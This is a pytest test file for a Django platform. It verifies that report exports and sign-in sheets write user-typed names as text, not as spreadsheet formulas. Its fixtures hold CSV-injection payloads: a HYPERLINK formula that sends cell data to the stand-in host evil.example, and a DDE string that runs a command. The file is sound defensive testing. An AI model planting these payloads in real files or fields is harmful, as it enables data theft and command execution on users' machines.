"""Formulas in exports (issue 9, item 8): a name typed as `=HYPERLINK(…)` leaves the platform as
text in every export — each report as .xlsx and CSV, inline and as a background job, and the
sign-in template — through the one shared function `cms.core.sheets.safe_cell`."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from django.urls import reverse
from django.utils.translation import gettext_lazy

from cms.core.sheets import safe_cell
from tracking.models import ExportJob
from tracking.reports.tasks import build_report_export

HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("王伟", "王伟"),
        ("a=1", "a=1"),
        ("", ""),
        (None, None),
        (-1.5, -1.5),
        (Decimal("-3"), Decimal("-3")),
        (7, 7),
        (True, True),
        (datetime.date(2026, 3, 5), datetime.date(2026, 3, 5)),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_cell_reads_lazy_translations_as_text():
    assert safe_cell(gettext_lazy("Total")) in ("Total", "合计")


def _no_formula_in_xlsx(content: bytes) -> list:
    ws = load_workbook(io.BytesIO(content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    return [c.value for c in cells]


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _assert_neutralised(fmt: str, content: bytes, hostile: str = HOSTILE) -> None:
    values = _no_formula_in_xlsx(content) if fmt == "xlsx" else _csv_cells(content)
    assert "'" + hostile in values
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)


# Each report with the fixture that gives it rows, and the filters its teacher or school list needs.
REPORTS = {
    "completion": ("boundary", lambda f: {"year": f["training_year"].pk, "detail": "teachers"}),
    "delivery": ("delivery", lambda f: {"term": f["delivery"]["term"].pk}),
    "parents": ("parents", lambda f: {}),
    "staffing": ("org", lambda f: {"year": f["training_year"].pk}),
}


@pytest.fixture
def hostile_names(org, request):
    """A district, a school and (for the completion list) a teacher with names that are formulas."""
    org["district_a"].name = HOSTILE
    org["district_a"].save()
    org["school_a1"].name = "@SUM(1,2)"
    org["school_a1"].save()
    return org


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("key", REPORTS)
def test_every_report_export_writes_formulas_as_text(
    request, key, fmt, training_year, hostile_names, login, city_coordinator
):
    fixture_name, params = REPORTS[key]
    fixtures = {"training_year": training_year, fixture_name: request.getfixturevalue(fixture_name)}
    if key == "completion":
        teacher = fixtures["boundary"]["full_met"].user
        teacher.name = "-cmd|' /C calc'!A0"
        teacher.save()
    client = login(city_coordinator)
    response = client.get(reverse("reports:export", args=[key]), {**params(fixtures), "format": fmt})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    hostile = "-cmd|' /C calc'!A0" if key == "completion" else HOSTILE
    _assert_neutralised(fmt, response.content, hostile)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_background_export_job_writes_formulas_as_text(fmt, boundary, training_year, hostile_names, city_coordinator):
    teacher = boundary["full_met"].user
    teacher.name = HOSTILE
    teacher.save()
    job = ExportJob.objects.create(
        user=city_coordinator,
        report="completion",
        params={"year": str(training_year.pk), "detail": "teachers"},
        format=fmt,
    )
    build_report_export(str(job.pk))
    job.refresh_from_db()
    with job.file.open("rb") as f:
        _assert_neutralised(fmt, f.read())


@pytest.mark.django_db
def test_sign_in_template_writes_the_session_title_as_text(client, org, training_year, school_coordinator):
    from tests.factories import OfflineSessionFactory

    session = OfflineSessionFactory(school=org["school_a1"], training_year=training_year, title="=1+1")
    client.force_login(school_coordinator)
    response = client.get(reverse("ledger:session_template", args=[session.pk]))
    values = _no_formula_in_xlsx(response.content)
    assert values[0] == "'=1+1 签到表"


@pytest.mark.django_db
def test_pre_filled_sign_in_sheet_writes_names_as_text_and_reads_them_back(
    client, org, training_year, school_coordinator
):
    """The staff list is typed by people; written as text, it still matches when it comes back."""
    from tests.factories import OfflineSessionFactory, TeacherProfileFactory, UserFactory
    from tracking.models import Attendance

    session = OfflineSessionFactory(school=org["school_a1"], training_year=training_year, hours=Decimal("3"))
    TeacherProfileFactory(user=UserFactory(name=HOSTILE), school=org["school_a1"], staff_number="-1001")
    client.force_login(school_coordinator)
    response = client.get(reverse("ledger:session_template", args=[session.pk]) + "?staff=1")
    values = _no_formula_in_xlsx(response.content)
    assert "'" + HOSTILE in values and "'-1001" in values

    wb = load_workbook(io.BytesIO(response.content))
    wb.worksheets[0].cell(3, 4).value = 3  # came: 0 → 3 hours
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    out.name = "签到表.xlsx"
    client.post(reverse("ledger:session_import", args=[session.pk]), {"file": out})
    batch = session.import_batches.get()
    assert batch.counts()["ok"] == 1, batch.rows
    client.post(reverse("ledger:import_preview", args=[batch.pk]))
    assert Attendance.objects.get().teacher.user.name == HOSTILE
